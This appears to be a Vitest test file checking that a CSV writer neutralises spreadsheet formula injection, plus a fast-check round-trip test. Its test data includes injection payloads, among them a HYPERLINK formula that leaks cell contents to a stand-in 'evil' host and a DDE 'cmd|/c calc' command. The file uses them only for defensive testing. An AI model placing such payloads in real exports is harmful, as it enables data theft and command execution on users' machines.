import fc from 'fast-check';
import { expect, test } from 'vitest';
import { CsvScanner } from './csv-scanner.ts';
import { escapeCsvCell } from './escape-csv-cell.ts';
import { csvLine } from './write-csv.ts';

test.each([
  '=1+1',
  '=HYPERLINK("http://evil/?"&A1)',
  '+1+cmd|/c calc!A0',
  '-2+3+cmd',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  '＝1+1',
  '+7 (926) 123-45-67',
])('SEC-17 %j cannot run as a formula', (cell) => {
  expect(escapeCsvCell(cell)).toBe(`'${cell}`);
  expect(csvLine(['x', cell], ',')).toMatch(/^x,"?'/);
});

test.each(['+79261234567', '-12,50', '-3', 'Иван', 'a=b', '', "O'Neil", '8 (926) 123-45-67'])(
  'SEC-17 %j is left as it is',
  (cell) => {
    expect(escapeCsvCell(cell)).toBe(cell);
  },
);

test('quotes only what needs it', () => {
  expect(csvLine(['a', 'b;c', 'd"e', 'f\ng', ' h', null, ''], ';')).toBe('a;"b;c";"d""e";"f\ng";" h";;\r\n');
});

test('CRM-5 whatever is written is read back, but for the apostrophes of formulas', () => {
  const cell = fc.string({
    unit: fc.constantFrom('a', 'ж', '"', ',', ';', '\n', '\r', '\t', ' ', '=', '💬'),
    maxLength: 10,
  });
  fc.assert(
    fc.property(
      fc.array(cell, { minLength: 1, maxLength: 6 }),
      fc.constantFrom(',', ';', '\t', '|'),
      (cells, delimiter) => {
        const scanner = new CsvScanner({ delimiter });
        const records = [...scanner.write(csvLine(cells, delimiter)), ...scanner.end()];
        expect(records).toEqual([{ line: 1, fields: cells.map(escapeCsvCell), fault: null }]);
      },
    ),
    { numRuns: 2_000 },
  );
});
